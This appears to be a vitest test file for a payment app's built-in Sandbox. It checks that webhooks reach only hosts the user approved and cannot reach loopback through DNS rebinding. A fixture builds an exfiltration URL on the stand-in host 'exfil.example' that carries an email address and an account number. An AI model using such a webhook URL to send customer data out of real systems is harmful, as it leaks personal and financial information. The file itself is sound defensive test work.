// The built-in Sandbox runs inside main, so its webhook calls are main's own requests (issue 45
// item 1). A page can create a test payment whose webhookUrl carries customer data in its path; on
// the payment's next change main would POST there. These tests run main's real app services (the
// built-in Sandbox over HTTP, its API client, main's question port with a scripted person) against a
// counting shop on 127.0.0.1 and ::1, reached through names an injected resolver answers.
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import type { AppDeps } from '../../../../src/main/app-services'
import type { MainQuestion } from '../../../../src/main/services/main-questions'
import { completeCheckout, type ResolveHost } from '../../../../src/sandbox'
import type { PaymentResult } from '../../../../src/shared/ipc/payments'
import { paymentStory } from '../../../../src/shared/story/payment-story'
import { validPaymentBody } from '../../../helpers/sandbox-fixtures'
import { startTestApp, type TestApp } from '../../helpers/app-services'
import { rebindingResolver, startCountingShop, tableResolver, type CountingShop } from '../../../helpers/counting-shop'

let shop: CountingShop
let dir: string
let app: TestApp | null = null
const asked: MainQuestion[] = []

beforeAll(async () => {
  shop = await startCountingShop()
  dir = await mkdtemp(join(tmpdir(), 'paydesk-sandbox-webhooks-'))
})
afterEach(async () => {
  await app?.services.dispose()
  app = null
  shop.calls.length = 0
  asked.length = 0
})
afterAll(async () => {
  await shop.close()
  await rm(dir, { recursive: true, force: true })
})

/** The app with a person who answers main's webhook question with `yesTo` hosts' button 1. */
async function startApp(options: {
  resolver: ResolveHost
  yesTo?: string[]
  allowLocalWebhooks?: boolean
  receivers?: string[]
}): Promise<TestApp> {
  const deps: Partial<AppDeps> = {
    dialogs: {
      chooseSavePath: async () => null,
      ask: async (question) => {
        asked.push(question)
        const yes = options.yesTo?.some((host) => question.message.includes(host)) ?? false
        return yes ? 1 : question.cancelId
      },
    },
    sandboxOptions: {
      seedPayments: 0,
      resolveWebhookHost: options.resolver,
      webhookTimeoutMs: 1_000,
      ...(options.allowLocalWebhooks ? { allowLocalWebhooks: true } : {}),
    },
    ...(options.receivers ? { sandboxWebhookReceivers: options.receivers } : {}),
  }
  app = await startTestApp(join(dir, String(Date.now() + Math.random())), deps)
  return app
}

/** A test payment with this webhook URL made through main's client, paid at the checkout. */
async function paidWithWebhook(testApp: TestApp, webhookUrl: string): Promise<string> {
  const client = await testApp.services.connections.getActiveClient()
  const payment = await client.createPayment(validPaymentBody({ webhookUrl }))
  const checkout = payment._links.checkout?.href
  if (!checkout) throw new Error('no checkout link')
  await completeCheckout(checkout, 'paid')
  return payment.id
}

/** The payment as the payment view gets it (with the Sandbox's delivery log), once its calls settled. */
async function settledView(testApp: TestApp, id: string): Promise<PaymentResult> {
  for (let i = 0; i < 200; i++) {
    const reply = await testApp.invoke('payments.get', { sessionId: 's', id })
    expect(reply.ok, JSON.stringify(reply.error)).toBe(true)
    const result = reply.value as unknown as PaymentResult
    const deliveries = result.context?.deliveries ?? []
    if (deliveries.length > 0 && deliveries.every((d) => d.state !== 'delivering')) return result
    await new Promise((r) => setTimeout(r, 20))
  }
  throw new Error(`the delivery for ${id} did not settle`)
}

const exfilPath = (port: number, host: string) => `http://${host}:${port}/c?d=jan.jansen@example.com;NL91ABNA0417164300`

describe('the built-in Sandbox calls a webhook host only after the person allowed it', () => {
  it('a page’s webhook to a name that resolves to ::1: 0 requests without the person’s yes; the log and the timeline say "not sent: host not allowed"', async () => {
    const resolver = tableResolver({ 'exfil.example': ['::1'] })
    const testApp = await startApp({ resolver })
    const url = exfilPath(shop.port, 'exfil.example')
    const first = await paidWithWebhook(testApp, url)
    const second = await paidWithWebhook(testApp, url)
    for (const id of [first, second]) {
      const view = await settledView(testApp, id)
      const [delivery] = view.context?.deliveries ?? []
      expect(delivery?.state).toBe('not-allowed')
      expect(delivery?.attempts[0]?.error).toMatch(/^Not sent: host not allowed/)
      const timeline = paymentStory(view.payment, { deliveries: view.context?.deliveries ?? [] }).timeline
      expect(timeline.map((e) => e.text).join('\n')).toMatch(
        /Webhook not sent: host not allowed\. The Sandbox calls exfil\.example only after you allow it/,
      )
    }
    expect(shop.calls).toEqual([])
    // Nothing was even looked up: a name can carry data to whoever answers for its domain.
    expect(resolver.lookups).toEqual([])
    // Asked once for the host, naming it and the whole URL, Cancel first and the default.
    expect(asked).toHaveLength(1)
    expect(asked[0]).toMatchObject({
      kind: 'sandbox-webhook',
      buttons: ['Cancel', 'Call exfil.example'],
      defaultId: 0,
      cancelId: 0,
    })
    expect(asked[0]?.message).toContain('exfil.example')
    expect(asked[0]?.detail).toContain(url)
  })

  it('with the person’s yes for that host, exactly the expected calls arrive (and only there)', async () => {
    const resolver = tableResolver({ 'myshop.test': ['::1'], 'other.test': ['127.0.0.1'] })
    const testApp = await startApp({ resolver, yesTo: ['myshop.test'], allowLocalWebhooks: true })
    const first = await paidWithWebhook(testApp, `http://myshop.test:${shop.port}/hook`)
    const second = await paidWithWebhook(testApp, `http://myshop.test:${shop.port}/hook`)
    const other = await paidWithWebhook(testApp, `http://other.test:${shop.port}/hook`)
    expect((await settledView(testApp, first)).context?.deliveries?.[0]?.state).toBe('delivered')
    expect((await settledView(testApp, second)).context?.deliveries?.[0]?.state).toBe('delivered')
    expect((await settledView(testApp, other)).context?.deliveries?.[0]?.state).toBe('not-allowed')
    expect(shop.calls).toEqual([
      { via: '::1', path: '/hook', body: `id=${first}` },
      { via: '::1', path: '/hook', body: `id=${second}` },
    ])
    expect(asked.map((q) => q.buttons[1])).toEqual(['Call myshop.test', 'Call other.test'])
    expect(resolver.lookups).toEqual(['myshop.test', 'myshop.test'])
  })

  it('DNS rebinding (first lookup public, then loopback) with the person’s yes: 0 requests reach this machine', async () => {
    const resolver = rebindingResolver('192.0.2.1', '::1')
    const testApp = await startApp({ resolver, yesTo: ['rebind.example'] })
    const id = await paidWithWebhook(testApp, `http://rebind.example:${shop.port}/hook`)
    const [delivery] = (await settledView(testApp, id)).context?.deliveries ?? []
    expect(delivery?.state).toBe('retrying')
    expect(delivery?.attempts[0]?.error).toMatch(/192\.0\.2\.1|no answer within/)
    expect(resolver.lookups).toEqual(['rebind.example'])
    expect(shop.calls).toEqual([])
  })

  it('the seeded merchant’s made-up shop (shop.example.com) is neither asked about nor looked up', async () => {
    const resolver = tableResolver({})
    const testApp = await startApp({ resolver })
    const id = await paidWithWebhook(testApp, 'https://shop.example.com/webhooks/payments')
    const [delivery] = (await settledView(testApp, id)).context?.deliveries ?? []
    expect(delivery?.state).toBe('retrying')
    expect(delivery?.attempts[0]?.error).toBe('getaddrinfo ENOTFOUND shop.example.com')
    expect(asked).toEqual([])
    expect(resolver.lookups).toEqual([])
  })

  it('the loopback receivers the Sandbox’s settings name are called without a question', async () => {
    const resolver = tableResolver({})
    const receiver = `http://127.0.0.1:${shop.port}`
    const testApp = await startApp({ resolver, receivers: [receiver] })
    const id = await paidWithWebhook(testApp, `${receiver}/hook`)
    expect((await settledView(testApp, id)).context?.deliveries?.[0]?.state).toBe('delivered')
    expect(shop.calls).toEqual([{ via: '127.0.0.1', path: '/hook', body: `id=${id}` }])
    expect(asked).toEqual([])
  })
})
